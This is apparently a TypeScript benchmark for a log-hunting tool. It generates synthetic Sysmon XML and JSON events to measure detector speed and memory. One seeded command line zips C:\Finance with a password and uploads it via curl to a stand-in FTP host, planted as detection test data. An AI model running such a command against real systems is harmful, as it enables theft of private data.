// Windows text readers and the host analytics on them: `exfilscope hunt` over generated Sysmon logs as
// wevtutil XML and as Winlogbeat JSON lines, at two sizes, so throughput and whether RSS stays flat both show.
// Command lines mix everyday ones with 1 % encryption commands, so the detectors do their full work.
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { loadavg, tmpdir } from 'node:os';
import { join } from 'node:path';
import { machineLine, markdownTable, measure } from './measure.js';

const COMMANDS = [
  '"C:\\Windows\\System32\\svchost.exe" -k netsvcs -p -s Schedule',
  'C:\\Windows\\System32\\cmd.exe /c "dir C:\\Users\\bob\\Documents & echo done"',
  'powershell.exe -NoProfile -ExecutionPolicy Bypass -Command "Get-ChildItem C:\\Temp | Remove-Item -Recurse"',
  '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US --field-trial-handle=1234,i,987654321',
  'bash -c "tar czf - /srv/www | gzip -9 > /tmp/www.tgz"',
];
const CRYPTO = 'cmd.exe /c "7z.exe a -pS3cret -mhe=on C:\\Users\\bob\\Documents\\exfil\\q.7z C:\\Finance && curl -T C:\\Users\\bob\\Documents\\exfil\\q.7z ftp://203.0.113.9/"';

function commandLine(i: number): string {
  return i % 100 === 0 ? CRYPTO : COMMANDS[i % COMMANDS.length]!;
}

function xmlEvent(i: number): string {
  const cl = commandLine(i).replace(/&/g, '&amp;').replace(/</g, '&lt;');
  return `<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Sysmon' Guid='{5770385f-c22a-43e0-bf4c-06f5698ffbd9}'/><EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime='2024-05-06T10:00:01.1234567Z'/><EventRecordID>${i}</EventRecordID><Correlation/><Execution ProcessID='3000' ThreadID='4000'/><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>WS${i % 50}.corp.example</Computer><Security UserID='S-1-5-18'/></System><EventData><Data Name='RuleName'>-</Data><Data Name='UtcTime'>2024-05-06 10:00:01.120</Data><Data Name='ProcessGuid'>{11111111-2222-3333-4444-${String(i).padStart(12, '0')}}</Data><Data Name='ProcessId'>${i % 65536}</Data><Data Name='Image'>C:\\Windows\\System32\\cmd.exe</Data><Data Name='CommandLine'>${cl}</Data><Data Name='CurrentDirectory'>C:\\Users\\bob\\</Data><Data Name='User'>CORP\\bob</Data><Data Name='Hashes'>SHA256=0000000000000000000000000000000000000000000000000000000000000000</Data><Data Name='ParentProcessGuid'>{11111111-2222-3333-4444-000000000001}</Data><Data Name='ParentProcessId'>1000</Data><Data Name='ParentImage'>C:\\Windows\\explorer.exe</Data><Data Name='ParentCommandLine'>C:\\Windows\\explorer.exe</Data></EventData></Event>\n`;
}

function jsonEvent(i: number): string {
  return JSON.stringify({
    '@timestamp': '2024-05-06T10:00:01.123Z',
    host: { name: `WS${i % 50}.corp.example` },
    winlog: {
      channel: 'Microsoft-Windows-Sysmon/Operational', provider_name: 'Microsoft-Windows-Sysmon', record_id: i, event_id: '1', computer_name: `WS${i % 50}.corp.example`,
      event_data: { UtcTime: '2024-05-06 10:00:01.120', ProcessGuid: `{11111111-2222-3333-4444-${String(i).padStart(12, '0')}}`, ProcessId: String(i % 65536), Image: 'C:\\Windows\\System32\\cmd.exe', CommandLine: commandLine(i), User: 'CORP\\bob', ParentImage: 'C:\\Windows\\explorer.exe', ParentProcessId: '1000' },
    },
    ecs: { version: '8.0.0' },
  }) + '\n';
}

function generate(dir: string, name: string, events: number, render: (i: number) => string): { path: string; bytes: number } {
  const parts: string[] = [];
  let bytes = 0;
  for (let i = 0; i < events; i++) {
    const text = render(i);
    parts.push(text);
    bytes += Buffer.byteLength(text);
  }
  const path = join(dir, name);
  writeFileSync(path, parts.join(''));
  return { path, bytes };
}

export default async function bench(): Promise<string> {
  const dir = mkdtempSync(join(tmpdir(), 'exfilscope-bench-winevent-'));
  const rows: (string | number)[][] = [];
  const loadBefore = loadavg()[0]!;
  for (const events of [50_000, 200_000]) {
    for (const [format, render] of [['XML (wevtutil)', xmlEvent], ['JSON lines (Winlogbeat)', jsonEvent]] as const) {
      const file = generate(dir, `${events}.${format.startsWith('XML') ? 'xml' : 'json'}`, events, render);
      const m = measure(format, `node --import tsx test/cli-entry.ts hunt -q -f jsonl ${file.path} | wc -l`);
      const findings = Number(m.stdout.trim());
      rows.push([format, events, (file.bytes / 1e6).toFixed(1), m.seconds.toFixed(2), (file.bytes / 1e6 / m.seconds).toFixed(1), Math.round(events / m.seconds), m.maxRssMiB.toFixed(0), findings]);
    }
  }
  rmSync(dir, { recursive: true, force: true });
  return [
    '## Windows XML and JSON readers with the host analytics',
    '',
    machineLine(),
    '',
    '`exfilscope hunt` (from sources via tsx, so start-up includes compiling) over generated Sysmon 1 events; 1 % of',
    'command lines encrypt (7z -p -mhe then curl), the rest are everyday ones. Wall time and peak RSS by GNU time.',
    `Load average when the run started: ${loadBefore.toFixed(1)} (on a shared machine wall times vary with it; RSS does not).`,
    '',
    markdownTable(['input', 'events', 'MB', 'seconds', 'MB/s', 'events/s', 'peak RSS MiB', 'findings'], rows),
  ].join('\n');
}
